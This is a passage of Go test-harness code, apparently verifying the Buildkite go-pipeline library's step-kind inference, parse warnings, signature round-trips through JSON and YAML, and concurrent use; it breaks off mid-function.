			bads = append(bads, bad{t, "env", doc.I(5)}, bad{t, "matrix", doc.I(5)}, bad{t, "env", doc.L(doc.S("a"))}, bad{t, "plugins", doc.I(7)}, bad{t, "signature", doc.S("x")})
		}
		bads = append(bads, bad{"group", "steps", doc.S("nope")}, bad{"group", "steps", doc.I(5)}, bad{"group", "steps", doc.M(doc.P("a", doc.S("b")))})
		foreign := []string{"wait", "waiter", "block", "input", "manual", "trigger", "group", "command", "commands"}
		n := 0
		for _, b := range bads {
			for _, fk := range foreign {
				for _, format := range []string{"json", "yaml"} {
					n++
					pairs := []doc.Pair{doc.P("type", doc.S(b.typ)), doc.P(b.key, b.val), doc.P(fk, c15KeyValue(fk))}
					if n%2 == 0 {
						pairs[0], pairs[2] = pairs[2], pairs[0]
					}
					d := doc.M(doc.P("steps", doc.L(&doc.Node{Kind: doc.KMap, Map: pairs})))
					text := string(doc.ToJSON(d))
					if format == "yaml" {
						text, _ = doc.ToYAML(d, doc.YAMLOpts{})
					}
					id := fmt.Sprintf("illtyped/%s/%s/%s/%s", b.typ, b.key, fk, format)
					var p *pipeline.Pipeline
					var perr error
					if pi := run.Guard(func() { p, perr = pipeline.Parse(strings.NewReader(text)) }); pi != nil {
						c.Violation(id, map[string]any{"what": "Parse panicked: " + pi.Value, "document": text, "stack": pi.Stack})
						continue
					}
					c.Eval(1)
					if perr != nil && !warning.Is(perr) {
						c.Count("ill_typed_hard_errors", 1) // refusing the document is not a wrong kind
						continue
					}
					if len(p.Steps) != 1 {
						c.Violation(id, map[string]any{"what": fmt.Sprintf("expected one step, got %d", len(p.Steps)), "document": text})
						continue
					}
					want, _ := c15Table(map[string]bool{b.key: true, fk: true}, &b.typ)
					if got := stepKind(p.Steps[0]); got != "unknown" && got != want {
						c.Violation(id, map[string]any{"what": fmt.Sprintf("type %q with an ill-typed %q and a key of another family (%q): parsed as %s - neither the declared kind nor an unknown step", b.typ, b.key, fk, got), "document": text, "warning": fmt.Sprint(perr)})
						continue
					}
					c.Count("ill_typed_rows", 1)
					c.Feature("illtyped", b.typ, b.key, fk)
				}
			}
		}
	})
	// An additional key is whatever its text is - also when it carries a tag whose decoded payload would spell a
	// kind-determining key (`!!binary d2FpdA==` is base64 for "wait") or `type`.
	c.Phase("tagged-keys", func() {
		b64 := func(s string) string { return base64.StdEncoding.EncodeToString([]byte(s)) }
		own := map[string]string{"command": "command: c", "wait": "wait: ~", "input": "block: b", "trigger": "trigger: t", "group": "group: g\n    steps: []"}
		rank := map[string]int{"command": 0, "wait": 1, "input": 2, "trigger": 3, "group": 4}
		for kind, line := range own {
			for _, word := range append(append([]string{}, c15Keys...), "type") {
				text := "steps:\n  - " + line + "\n    !!binary " + b64(word) + ": wait\n"
				id := "tagged/" + kind + "/" + word
				var p *pipeline.Pipeline
				var perr error
				if pi := run.Guard(func() { p, perr = pipeline.Parse(strings.NewReader(text)) }); pi != nil {
					c.Violation(id, map[string]any{"what": "Parse panicked: " + pi.Value, "document": text, "stack": pi.Stack})
					continue
				}
				c.Eval(1)
				if perr != nil && !warning.Is(perr) {
					c.Count("tagged_key_documents_refused", 1)
					continue
				}
				if len(p.Steps) != 1 {
					c.Violation(id, map[string]any{"what": fmt.Sprintf("expected one step, got %d", len(p.Steps)), "document": text})
					continue
				}
				if got := stepKind(p.Steps[0]); got != kind {
					c.Violation(id, map[string]any{"what": fmt.Sprintf("a %s step with an additional key tagged !!binary (payload %q) parsed as %s: an additional key changed the decision", kind, word, got), "document": text, "warning": fmt.Sprint(perr)})
					continue
				}
				_ = rank
				c.Count("tagged_key_rows", 1)
				c.Feature("tagged", kind, word)
			}
		}
	})
	// Scalar steps.
	words := []string{"wait", "waiter", "block", "input", "manual"}
	nonWords := []string{"Wait", "WAIT", "wait ", " wait", "command", "group", "trigger", "", "waits", "blocks", "~x", "null ", "true!", "wait\n", "w", "input step"}
	r := c.RNG("scalars")
	for k := 0; k < 200; k++ {
		nonWords = append(nonWords, gen.String(r, gen.StringOpts{Tricky: true, Interp: true}))
	}
	for _, w := range append(append([]string{}, words...), nonWords...) {
		isWord := false
		for _, x := range words {
			if x == w {
				isWord = true
			}
		}
		want := "unknown"
		switch w {
		case "wait", "waiter":
			want = "wait"
		case "block", "input", "manual":
			want = "input"
		}
		for _, position := range []string{"top", "group", "bare-list"} {
			var d *doc.Node
			switch position {
			case "top":
				d = doc.M(doc.P("steps", doc.L(doc.S(w))))
			case "group":
				d = doc.M(doc.P("steps", doc.L(doc.M(doc.P("group", doc.Null()), doc.P("steps", doc.L(doc.S(w)))))))
			default:
				d = doc.L(doc.S(w))
			}
			text := string(doc.ToJSON(d))
			id := "scalar/" + position + "/" + w
			var p *pipeline.Pipeline
			var perr error
			if pi := run.Guard(func() { p, perr = pipeline.Parse(strings.NewReader(text)) }); pi != nil {
				c.Violation(id, map[string]any{"what": "Parse panicked: " + pi.Value, "document": text, "stack": pi.Stack})
				continue
			}
			c.Eval(1)
			c.Feature("scalar", w, position)
			if perr != nil && !warning.Is(perr) {
				c.Violation(id, map[string]any{"what": "scalar step document hard-fails: " + perr.Error(), "document": text})
				continue
			}
			steps := p.Steps
			if position == "group" && len(steps) == 1 {
				if g, ok := steps[0].(*pipeline.GroupStep); ok {
					steps = g.Steps
				} else if _, unk := steps[0].(*pipeline.UnknownStep); unk && !isWord && perr != nil && errors.Is(perr, pipeline.ErrUnknownStepType) {
					c.Count("group_with_unknown_child_kept_as_unknown", 1)
					continue
				}
			}
			if len(steps) != 1 {
				c.Violation(id, map[string]any{"what": fmt.Sprintf("expected one step, got %d", len(steps)), "document": text})
				continue
			}
			got := stepKind(steps[0])
			c.Count("scalar_kind_"+got, 1)
			if got != want {
				c.Violation(id, map[string]any{"what": fmt.Sprintf("scalar step %q parsed as %s, table says %s", w, got, want), "document": text})
				continue
			}
			if !isWord && (perr == nil || !errors.Is(perr, pipeline.ErrUnknownStepType)) {
				c.Violation(id, map[string]any{"what": fmt.Sprintf("unknown scalar step %q without a warning wrapping ErrUnknownStepType (got %v)", w, perr), "document": text})
			}
			if isWord && perr != nil {
				c.Violation(id, map[string]any{"what": "scalar step word with a warning: " + perr.Error(), "document": text})
			}
		}
	}
	// Many fallbacks in one sequence: every cause must still be identifiable in the warning.
	for _, n := range []int{3, 10, 11, 12, 25, 60} {
		for _, lastKind := range []string{"inference", "type"} {
			l := doc.L()
			for k := 0; k < n; k++ {
				if lastKind == "inference" {
					l.Seq = append(l.Seq, doc.M(doc.P("type", doc.S(fmt.Sprintf("mystery%d", k)))))
				} else {
					l.Seq = append(l.Seq, doc.M(doc.P(fmt.Sprintf("nokind%d", k), doc.I(int64(k)))))
				}
			}
			// one step of the other failure class at the very end
			if lastKind == "inference" {
				l.Seq = append(l.Seq, doc.M(doc.P("no_family_key", doc.B(true))))
			} else {
				l.Seq = append(l.Seq, doc.M(doc.P("type", doc.S("late-mystery"))))
			}
			text := string(doc.ToJSON(doc.M(doc.P("steps", l))))
			id := fmt.Sprintf("many/%d-%s", n, lastKind)
			p, perr := pipeline.Parse(strings.NewReader(text))
			c.Eval(1)
			c.Feature("many", n, lastKind)
			c.Count("many_unknown_sequences", 1)
			if perr == nil || !warning.Is(perr) || p == nil || len(p.Steps) != n+1 {
				c.Violation(id, map[string]any{"what": fmt.Sprintf("%d unknown steps: err=%v steps=%d", n+1, perr, len(p.Steps)), "document": clip(text, 2000)})
				continue
			}
			if !errors.Is(perr, pipeline.ErrUnknownStepType) || !errors.Is(perr, pipeline.ErrStepTypeInference) {
				c.Violation(id, map[string]any{"what": fmt.Sprintf("%d fallbacks of one cause followed by one of the other: the warning no longer identifies both causes (unknown type: %v, failed inference: %v)", n, errors.Is(perr, pipeline.ErrUnknownStepType), errors.Is(perr, pipeline.ErrStepTypeInference)), "document": clip(text, 2000)})
				continue
			}
			if got := warningLeaves(perr); got < n+1 {
				c.Violation(id, map[string]any{"what": fmt.Sprintf("%d fallbacks but the warning reports only %d causes", n+1, got), "document": clip(text, 2000)})
			}
		}
	}
	c.Finish("exploration",
		"every subset of the ten kind-determining keys (each with a well-typed value) x `type` in {absent, the nine documented names, unknown names, empty string, a case variant, documented names padded with a blank, tab or newline} x six extra-key variants (none, benign, the empty key, alias-named keys, twelve random extras plus a null-valued empty key, a quoted `<<` key whose mapping value holds kind-determining keys), key order shuffled, each as a top-level step and inside a group, as JSON and as YAML: the dynamic type of the parsed step and the sentinel inside the warning are compared with the rule table written out in the harness; then all five scalar words and ~200 non-words in three positions; then sequences of 3-60 fallbacks of one cause followed by one of the other, where the warning must still identify both causes and report at least one cause per fallback. distinct_nontrivial counts distinct (key subset, type, extras) rows",
		map[string]any{"exhaustive": true, "exhaustive_note": "the key-subset x type x extra-variant table is enumerated completely; scalar non-words are a sample"},
		[]string{"a non-string `type` is a hard error by design and is not in the table", "warning text is not checked"})
}

func refKeys(m map[string]bool) []string {
	var out []string
	for _, k := range c15Keys {
		if m[k] {
			out = append(out, k)
		}
	}
	return out
}
