package main

import (
	"encoding/json"
	"fmt"
	"math/rand/v2"
	"strings"

	pipeline "github.com/buildkite/go-pipeline"
	"github.com/buildkite/go-pipeline/ordered"
	"github.com/buildkite/go-pipeline/signature"
	"github.com/buildkite/go-pipeline/warning"

	"verif/doc"
	"verif/gen"
	"verif/keys"
	"verif/refmodel"
	"verif/run"
)

func init() { register("C02", checkC02) }

// c02Run signs the pipeline parsed from text and checks that every command
// step still verifies after each serialisation and re-parse. It returns ""
// if the property holds; refused reports that SignSteps refused (unknown step).
func c02Run(c *run.Ctx, text string, interp bool, kp *keys.Pair, reps int, envOverride map[string]string) (what string, extra map[string]any, refused bool) {
	return c02RunOdd(c, text, interp, kp, reps, envOverride, false)
}

// c02RunOdd: with oddEnv the pipeline env block also holds a variable without a name (what a name that expands to
// nothing leaves behind) and names with '=', ':' and the namespace prefix itself - mapping keys like any other.
func c02RunOdd(c *run.Ctx, text string, interp bool, kp *keys.Pair, reps int, envOverride map[string]string, oddEnv bool) (what string, extra map[string]any, refused bool) {
	p, perr := parseText(text)
	if perr != nil && !warning.Is(perr) {
		return "well-formed document rejected: " + perr.Error(), nil, false
	}
	if oddEnv {
		if p.Env == nil {
			p.Env = ordered.NewMap[string, string](0)
		}
		p.Env.Set("", "the variable without a name")
		p.Env.Set("FLAGS=FAST", "y")
		p.Env.Set("env::", "named like the prefix")
		p.Env.Set("a:b", "z")
	}
	if interp {
		em := c04Env()
		em["FIELDNAME"] = "command" // a variable whose value happens to be the name of a typed step field
		if envOverride != nil {
			em = envOverride
		}
		env := refmodel.NewEnv(false, em)
		if err := p.Interpolate(env, false); err != nil {
			return "", nil, true // an expansion failed; nothing to sign
		}
	}
	penv := map[string]string{}
	if p.Env != nil {
		penv = p.Env.ToMap()
	}
	repo := "git@github.com:org/repo.git"
	if err := signature.SignSteps(bg, p.Steps, kp.Signer, repo, signature.WithEnv(penv)); err != nil {
		hasUnknown := false
		var walk func(ss pipeline.Steps)
		walk = func(ss pipeline.Steps) {
			for _, s := range ss {
				switch t := s.(type) {
				case *pipeline.UnknownStep:
					hasUnknown = true
				case *pipeline.GroupStep:
					walk(t.Steps)
				}
			}
		}
		walk(p.Steps)
		if hasUnknown {
			return "", nil, true
		}
		return "SignSteps failed on a pipeline without unknown steps: " + err.Error(), nil, false
	}
	venv := copyEnv(penv)
	venv["BUILDKITE_UNRELATED"] = "added by the backend"
	// positions of command steps before
	var before []string
	allCommandSteps(p.Steps, func(path string, s *pipeline.CommandStep) { before = append(before, path) })

	// the verification env of a re-parsed output is the env block of that output (what the receiving side has),
	// plus an unrelated variable
	envOf := func(q *pipeline.Pipeline) map[string]string {
		e := map[string]string{}
		if q.Env != nil {
			e = q.Env.ToMap()
		}
		e["BUILDKITE_UNRELATED"] = "added by the backend"
		return e
	}
	verifyAll := func(leg string, steps pipeline.Steps, venv map[string]string) string {
		var after []string
		bad := ""
		allCommandSteps(steps, func(path string, s *pipeline.CommandStep) {
			after = append(after, path)
			if bad != "" {
				return
			}
			if s.Signature == nil {
				bad = fmt.Sprintf("%s: command step %s has no signature after re-parse", leg, path)
				return
			}
			if _, err := verifyStep(kp.Verifier, s.Signature, s, repo, venv); err != nil {
				js, _ := safeJSONMarshal(s)
				bad = fmt.Sprintf("%s: signature of step %s does not verify after re-parse: %v; step: %s", leg, path, err, clip(string(js), 1500))
				return
			}
			c.Count("steps_verified_"+leg, 1)
			c.Count("steps_verified_alg_"+kp.Alg, 1)
		})
		if bad != "" {
			return bad
		}
		if fmt.Sprint(after) != fmt.Sprint(before) {
			return fmt.Sprintf("%s: command steps at %v before, at %v after re-parse", leg, before, after)
		}
		return ""
	}
	if w := verifyAll("direct", p.Steps, venv); w != "" {
		return w, nil, false
	}
	for rep := 0; rep < reps; rep++ {
		// JSON, whole pipeline
		jb, err := safeJSONMarshal(p)
		if err != nil {
			return "json.Marshal: " + err.Error(), nil, false
		}
		p2, err := parseText(string(jb))
		if err != nil && !warning.Is(err) {
			return "JSON marshalling rejected on re-parse: " + err.Error(), map[string]any{"json": clip(string(jb), 4000)}, false
		}
		if w := verifyAll("json-parse", p2.Steps, envOf(p2)); w != "" {
			return w, map[string]any{"json": clip(string(jb), 6000)}, false
		}
		// JSON, step by step (the way an agent receives a job)
		bad := ""
		allCommandSteps(p.Steps, func(path string, s *pipeline.CommandStep) {
			if bad != "" {
				return
			}
			sb, err := safeJSONMarshal(s)
			if err != nil {
				bad = "json.Marshal(step): " + err.Error()
				return
			}
			s2 := new(pipeline.CommandStep)
			if err := s2.UnmarshalJSON(sb); err != nil {
				bad = "CommandStep.UnmarshalJSON: " + err.Error() + ": " + clip(string(sb), 1500)
				return
			}
			if s2.Signature == nil {
				bad = "step-by-step: signature lost: " + clip(string(sb), 1500)
				return
			}
			if _, err := verifyStep(kp.Verifier, s2.Signature, s2, repo, venv); err != nil {
				bad = fmt.Sprintf("step-by-step: signature of step %s does not verify after CommandStep.UnmarshalJSON: %v; json: %s", path, err, clip(string(sb), 1500))
				return
			}
			c.Count("steps_verified_json-step", 1)
		})
		if bad != "" {
			return bad, nil, false
		}
		// YAML
		jn, _ := doc.FromJSON(jb)
		if jn != nil && leadingWSMultiline(jn) {
			c.Count("yaml_legs_skipped_leading_ws_multiline", 1)
			continue
		}
		yb, err := safeYAMLMarshal(p)
		if err != nil {
			if strings.Contains(err.Error(), "conflicts with struct field") && strings.Contains(text, "${FIELDNAME}") && c.Listed("K8") {
				// known finding K8: an unknown field renamed by interpolation onto a typed field's name makes yaml.v3 panic
				c.KnownHit("K8")
				continue
			}
			return "yaml.Marshal: " + err.Error(), nil, false
		}
		p3, err := parseText(string(yb))
		if err != nil && !warning.Is(err) {
			return "YAML marshalling rejected on re-parse: " + err.Error(), map[string]any{"yaml": clip(string(yb), 4000)}, false
		}
		if w := verifyAll("yaml-parse", p3.Steps, envOf(p3)); w != "" {
			return w, map[string]any{"yaml": clip(string(yb), 6000)}, false
		}
	}
	return "", nil, false
}

func checkC02(c *run.Ctx) {
	all, err := keys.All()
	must(c, err)
	for _, f := range c.FindingsFor() {
		var w struct {
			Document string            `json:"document"`
			Env      map[string]string `json:"env"`
		}
		if len(f.Witness) == 0 || json.Unmarshal(f.Witness, &w) != nil || w.Document == "" {
			continue
		}
		what, _, _ := c02Run(c, w.Document, len(w.Env) > 0, all["EdDSA"][0], 1, w.Env)
		if f.ID == "K8" {
			// the witness goes through the generic path, where K8 is recognised and skipped: replay it without that
			p, _ := parseText(w.Document)
			what = ""
			if p != nil && p.Interpolate(refmodel.NewEnv(false, w.Env), false) == nil {
				if _, err := safeYAMLMarshal(p); err != nil {
					what = "yaml.Marshal of the interpolated pipeline: " + err.Error()
				}
			}
		}
		c.Witness(f, what != "", fmt.Sprintf("%q: %s", w.Document, what))
	}
	n := c.N(1500, 100000)
	c.Parallel("doc", n, func(i int, r *rand.Rand) {
		kind := []string{"EdDSA", "EdDSA", "EdDSA", "EdDSA", "EdDSA", "ES512", "PS512", "ES256-signer"}[mix(i, 7, 8)]
		kp := all[kind][0]
		interp := mix(i, 9, 3) == 0
		o := gen.PipeOpts{
			Str:        gen.StringOpts{Tricky: true, Interp: true, LeadingWS: mix(i, 1, 9) == 0},
			Unknown:    mix(i, 2, 10) == 0,
			NoTime:     false,
			Sharing:    mix(i, 3, 5) == 1,
			TrickyKeys: mix(i, 4, 2) == 0,
			BigMaps:    mix(i, 5, 4) == 0,
			Coincide:   true,
			Signature:  mix(i, 6, 3) == 1, // some steps arrive with a (stale) signature record: signing replaces it
		}.NoSweep()
		if interp {
			// strings with references that all resolve
			o.Refs = []string{"$X", "${Y}", "$$X", "${UNSET:-d}", "$W"}
			o.Str = gen.StringOpts{}
		}
		switch i % 6 {
		case 0:
			o.SweepMatrix = i / 6
		case 1:
			o.SweepPlugins = i / 6
		case 2:
			o.SweepCmdForms = i / 6
		case 3:
			o.SweepCache = i / 6
		}
		d, err := gen.Pipeline(r, o)
		if err != nil {
			return
		}
		if interp && !d.HasSharing && mix(i, 10, 4) == 0 {
			// a coincidence no generator finds by itself: an unknown field of a command step whose name is a reference
			// to a variable whose value is the name of a typed field of that step
			for _, tree := range []*doc.Node{d.Plain, d.Root} {
				top := tree
				if sv, has := tree.Get("steps"); tree.Kind == doc.KMap && has {
					top = sv
				}
				if top.Kind != doc.KSeq {
					continue
				}
				for _, st := range top.Seq {
					if st.Kind == doc.KMap && (st.Has("command") || st.Has("commands")) && !st.Has("type") && !st.Has("${FIELDNAME}") {
						st.Map = append(st.Map, doc.P("${FIELDNAME}", doc.S("smuggled under the name of a typed field")))
						break
					}
				}
			}
			c.Count("documents_with_an_unknown_field_named_like_a_typed_field_after_interpolation", 1)
		}
		rs := renderings(d, r, 1, func(style, why string) { c.Count("renderings_discarded_generator_invalid", 1) })
		rd := rs[len(rs)-1]
		if mix(i, 8, 2) == 0 {
			rd = rs[0]
		}
		id := run.CaseID("doc", i)
		oddEnv := mix(i, 10, 5) == 0
		if oddEnv {
			c.Count("documents_with_unnamed_and_oddly_named_pipeline_variables", 1)
		}
		what, extra, refused := c02RunOdd(c, rd.Text, interp, kp, 3, nil, oddEnv)
		c.Eval(1)
		if what != "" {
			m := map[string]any{"what": what, "style": rd.Style, "document": clip(rd.Text, 8000), "key_kind": kind, "interpolated": interp}
			for k, v := range extra {
				m[k] = v
			}
			c.Violation(id, m)
			return
		}
		if refused {
			c.Count("documents_refused_or_not_signable", 1)
			return
		}
		c.Count("documents_signed", 1)
		c.Feature(kind, interp, d.FeatureVector())
		if c.WantSample() && d.NCommand > 1 && len(rd.Text) < 2000 {
			c.Sample(map[string]any{"document": rd.Text, "key_kind": kind, "interpolated": interp})
		}
	})
	// Nesting depth: the serialised form nests deeper than the legacy spellings it was parsed from (a bare step list
	// becomes `steps`, a single plugins mapping a list of one-entry mappings), so a signed pipeline that was accepted
	// at some depth must be accepted again, and verify, from its own output - at every depth.
	c.Phase("depth", func() {
		maxDepth := c.N(80, 400)
		c.Parallel("depth", maxDepth*3, func(i int, r *rand.Rand) {
			depth, variant := 1+i/3, i%3
			open, close := `{"k":`, "}"
			if variant == 1 {
				open, close = "[", "]"
			}
			nested := strings.Repeat(open, depth) + `"leaf"` + strings.Repeat(close, depth)
			var text string
			switch variant {
			case 2:
				text = `[{"command":"c","agents":` + nested + `}]`
			default:
				text = `[{"command":"c","plugins":{"p#v1":` + nested + `}}]`
			}
			kp := all["EdDSA"][0]
			what, extra, refused := c02Run(c, text, false, kp, 1, nil)
			c.Eval(1)
			c.Feature("depth", depth/8, variant)
			if what != "" {
				m := map[string]any{"what": fmt.Sprintf("document nested %d levels deep (variant %d): %s", depth, variant, what), "document": clip(text, 1500)}
				for k, v := range extra {
					m[k] = v
				}
				c.Violation(run.CaseID("depth", i), m)
				return
			}
			if !refused {
				c.Count("deep_documents_signed_and_verified", 1)
				c.Max("max_depth_signed_and_verified", int64(depth))
			}
		})
	})
	c.Finish("exploration",
		"grammar-generated documents (all step kinds, groups, every plugin/matrix/env/cache shorthand via sweeps, nil vs empty containers incl. `matrix: {}`, short vs canonical plugin sources, non-string scalars in env/matrix/configs, integral floats, big exponents, aliases/merges, Go maps beyond 8 entries) rendered as JSON or YAML are parsed, optionally interpolated, signed with SignSteps (documents with unknown steps must be refused and are counted), marshalled to JSON and YAML three times each (map order), re-parsed through Parse and step by step through CommandStep.UnmarshalJSON, and every command step's signature must verify with the public key and env = pipeline env plus an unrelated variable; command step positions must be unchanged. Four key kinds. distinct_nontrivial counts distinct (key kind, interpolated, feature vector)",
		nil,
		[]string{"YAML leg skipped for data with multi-line strings that begin with whitespace (C02's text)", "K1-class inputs (falsy skip) are not generated"})
}
