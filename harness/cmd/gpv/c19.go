package main

import (
	"bytes"
	"encoding/json"
	"fmt"
	"github.com/lestrrat-go/jwx/v2/jwa"
	"math"
	"math/rand/v2"
	"os"
	"path/filepath"
	"reflect"
	"regexp"
	"slices"
	"sort"
	"strings"
	"sync"
	"sync/atomic"

	pipeline "github.com/buildkite/go-pipeline"
	"github.com/buildkite/go-pipeline/jwkutil"
	"github.com/buildkite/go-pipeline/ordered"
	"github.com/buildkite/go-pipeline/signature"
	"github.com/buildkite/go-pipeline/warning"
	"github.com/google/go-cmp/cmp"
	"github.com/lestrrat-go/jwx/v2/jwk"
	"gopkg.in/yaml.v3"

	"verif/doc"
	"verif/gen"
	"verif/keys"
	"verif/refmodel"
	"verif/run"
	"verif/util"
)

func init() { register("C19", checkC19) }

const c19Goroutines = 16

// c19Work does the whole life cycle on one generated document and returns
// the observable results.
type c19Result struct {
	JSON, YAML string
	Sigs       []string
	Err        string
	Warn       string // text of the parse warning, if any
	Sibling    string // non-empty: working on one step of a pipeline changed another step of it
}

func (a c19Result) same(b c19Result) bool {
	return a.JSON == b.JSON && a.YAML == b.YAML && a.Err == b.Err && a.Warn == b.Warn && strings.Join(a.Sigs, "|") == strings.Join(b.Sigs, "|")
}

// c19ChildReq asks a fresh process for one life cycle (key material included,
// so that Ed25519 signature bytes are comparable).
type c19ChildReq struct {
	Text    string
	Seed    uint64
	Kind    string
	PrivSet json.RawMessage
	PubSet  json.RawMessage
}

// c19ColdReq: the documents a fresh process parses as the very first thing it does, on G goroutines released together.
type c19ColdReq struct {
	Texts []string
	G     int
}

// c19ColdWork is what each goroutine of a cold start does with its document.
func c19ColdWork(text string) string {
	p, err := parseText(text)
	if err != nil && !warning.Is(err) {
		return "error: " + err.Error()
	}
	out := ""
	if err != nil {
		out = "warning: " + err.Error() + "\n"
	}
	jb, jerr := safeJSONMarshal(p)
	yb, yerr := safeYAMLMarshal(p)
	return out + fmt.Sprintf("json(%v): %s\nyaml(%v): %s", jerr, jb, yerr, yb)
}

// c19EnvTemplate is a read-only list of pairs that every goroutine turns into its own env block (the way a program
// keeps the defaults of all its pipelines in one table). c19EnvTemplatePristine is what it must still hold afterwards.
var c19EnvTemplate = []ordered.Tuple[string, string]{{Key: "GREETING", Value: "hello $USER_NAME"}, {Key: "$KEYREF", Value: "named by expansion"},
	{Key: "PLAIN", Value: "p"}, {Key: "AGAIN", Value: "${GREETING}!"}, {Key: "LAST", Value: "$$escaped"}}
var c19EnvTemplatePristine = append([]ordered.Tuple[string, string](nil), c19EnvTemplate...)

// c19TemplateWork builds a pipeline whose env block comes from the shared template and interpolates it with the
// caller's own variables.
func c19TemplateWork(g int) string {
	p := &pipeline.Pipeline{Env: ordered.MapFromItems(c19EnvTemplate...), Steps: pipeline.Steps{&pipeline.CommandStep{Command: "echo $GREETING $AGAIN"}}}
	err := p.Interpolate(refmodel.NewEnv(false, map[string]string{"USER_NAME": fmt.Sprint("user", g), "KEYREF": fmt.Sprint("K", g)}), false)
	jb, jerr := safeJSONMarshal(p)
	return fmt.Sprintf("err=%v json(%v)=%s", err, jerr, jb)
}

func init() {
	registerChild("c19cold", func(in []byte) any {
		var q c19ColdReq
		if err := json.Unmarshal(in, &q); err != nil {
			return []string{"child: " + err.Error()}
		}
		res := make([]string, q.G)
		var ready, done sync.WaitGroup
		start := make(chan struct{})
		for g := 0; g < q.G; g++ {
			ready.Add(1)
			done.Add(1)
			go func(g int) {
				defer done.Done()
				ready.Done()
				<-start
				res[g] = c19ColdWork(q.Texts[g%len(q.Texts)])
			}(g)
		}
		ready.Wait()
		close(start)
		done.Wait()
		return res
	})
	registerChild("c19life", func(in []byte) any {
		var q c19ChildReq
		if err := json.Unmarshal(in, &q); err != nil {
			return c19Result{Err: "child: " + err.Error()}
		}
		priv, err := jwk.Parse(q.PrivSet)
		if err != nil {
			return c19Result{Err: "child: " + err.Error()}
		}
		pub, err := jwk.Parse(q.PubSet)
		if err != nil {
			return c19Result{Err: "child: " + err.Error()}
		}
		k, _ := priv.Key(0)
		return c19Life(q.Text, q.Seed, &keys.Pair{Kind: q.Kind, Alg: q.Kind, Signer: k, Verifier: pub, PrivSet: priv, PubSet: pub})
	})
}

// c19Text generates the document of one life cycle: JSON text mostly; every
// fifth a YAML text carrying non-finite floats, every fifth a styled YAML
// rendering (anchors, aliases and merges when the document shares subtrees);
// every third document contains steps of unknown kind.
func c19Text(seed uint64) (string, error) {
	r := rand.New(rand.NewPCG(seed, 17))
	d, err := gen.Pipeline(r, gen.PipeOpts{Str: gen.StringOpts{Tricky: true}, Refs: []string{"$X", "${Y}", "$$X", "${UNSET:-d}"}, UniqueStrings: true, NoTime: true, SmallInts: true,
		BigMaps: seed%3 == 0, Unknown: seed%3 == 1, Sharing: seed%5 == 3, MaxSteps: 5, Coincide: true}.NoSweep())
	if err != nil {
		return "", err
	}
	text := string(doc.ToJSON(d.Plain))
	switch {
	case seed%5 == 2 && d.Plain.Kind == doc.KMap:
		// a non-finite float in an untyped position: JSON marshalling of this pipeline fails (known finding K3);
		// here it only matters that the failure is clean and identical with and without concurrency
		text = "x_nonfinite: {deep: [.inf, {n: .nan}]}\n" + func() string { t, _ := doc.ToYAML(d.Plain, doc.YAMLOpts{}); return t }()
	case seed%5 == 3:
		if t, err := doc.ToYAML(d.Root, doc.YAMLOpts{Rng: r, Flow: 0.15, Anchors: d.HasSharing, Compact: seed%2 == 0}); err == nil {
			text = t
		}
	}
	return text, nil
}

func c19Work(seed uint64, kp *keys.Pair) c19Result {
	text, err := c19Text(seed)
	if err != nil {
		return c19Result{Err: "gen: " + err.Error()}
	}
	return c19Life(text, seed, kp)
}

// c19Poison edits every mutable container below v in place.
func c19Poison(v any) {
	switch t := v.(type) {
	case *ordered.MapSA:
		if t == nil {
			return
		}
		_ = t.Range(func(_ string, e any) error { c19Poison(e); return nil })
		t.Set("poisoned by the owner of another step", true)
	case map[string]any:
		for _, e := range t {
			c19Poison(e)
		}
		t["poisoned by the owner of another step"] = true
	case []any:
		for _, e := range t {
			c19Poison(e)
		}
		if len(t) > 0 {
			t[0] = "poisoned by the owner of another step"
		}
	}
}

// c19Life runs Parse, Interpolate, matrix interpolation, both marshallers,
// SignSteps and Verify on one document text.
func c19Life(text string, seed uint64, kp *keys.Pair) c19Result {
	var res c19Result
	p, perr := parseText(text)
	if perr != nil && !warning.Is(perr) {
		res.Err = "parse: " + perr.Error()
		return res
	}
	if perr != nil {
		res.Warn = perr.Error()
	}
	// every fourth life cycle interpolates with a nil environment (the library then supplies its own)
	var ienv pipeline.InterpolationEnv = refmodel.NewEnv(false, c04Env())
	if seed%4 == 1 {
		ienv = nil
	}
	if err := p.Interpolate(ienv, seed%2 == 0); err != nil {
		res.Err = "interpolate: " + err.Error()
		return res
	}
	// distinct steps of one pipeline are distinct objects: applying a permutation to one of them leaves the others as
	// they were (also when the document wrote them with the same anchored subtree)
	{
		var all []pipeline.Step
		var walk func(ss pipeline.Steps)
		walk = func(ss pipeline.Steps) {
			for _, st := range ss {
				all = append(all, st)
				if g, ok := st.(*pipeline.GroupStep); ok {
					walk(g.Steps)
				}
			}
		}
		walk(p.Steps)
		for ti, st := range all {
			cs, ok := st.(*pipeline.CommandStep)
			if !ok || (len(cs.RemainingFields) == 0 && len(cs.Plugins) == 0 && cs.Matrix == nil) {
				continue
			}
			perm := pipeline.MatrixPermutation{}
			if cs.Matrix != nil {
				for dname, vs := range cs.Matrix.Setup {
					if len(vs) > 0 {
						perm[dname] = vs[len(vs)-1]
					}
				}
			}
			before := make([]string, len(all))
			for j, o := range all {
				if _, isGroup := o.(*pipeline.GroupStep); j != ti && !isGroup {
					b, _ := safeJSONMarshal(o)
					before[j] = string(b)
				}
			}
			target := util.DeepCopy(cs) // the step itself is put back afterwards; only its effect on the others matters
			_ = cs.InterpolateMatrixPermutation(perm)
			// and the caller edits the untyped data of this one step in place
			for _, v := range cs.RemainingFields {
				c19Poison(v)
			}
			for _, pl := range cs.Plugins {
				if pl != nil {
					c19Poison(pl.Config)
				}
			}
			for j, o := range all {
				if _, isGroup := o.(*pipeline.GroupStep); j != ti && !isGroup {
					if b, _ := safeJSONMarshal(o); string(b) != before[j] && res.Sibling == "" {
						res.Sibling = fmt.Sprintf("InterpolateMatrixPermutation on step %d changed step %d: %s -> %s", ti, j, clip(before[j], 600), clip(string(b), 600))
					}
				}
			}
			*cs = *target
			break
		}
	}
	// matrix interpolation on steps that allow a valid permutation
	allCommandSteps(p.Steps, func(_ string, s *pipeline.CommandStep) {
		if s.Matrix == nil || len(s.Matrix.Setup) == 0 {
			return
		}
		perm := pipeline.MatrixPermutation{}
		for dname, vs := range s.Matrix.Setup {
			if len(vs) == 0 {
				return
			}
			perm[dname] = vs[0]
		}
		cp := *s
		_ = cp.InterpolateMatrixPermutation(perm) // errors (skipped, unknown tokens) are part of the result via the marshalled form
		_ = pipeline.Plugin{Source: "docker#v1"}.Source
	})
	jb, err := safeJSONMarshal(p)
	if err != nil {
		res.Err = "json: " + err.Error()
		return res
	}
	res.JSON = string(jb)
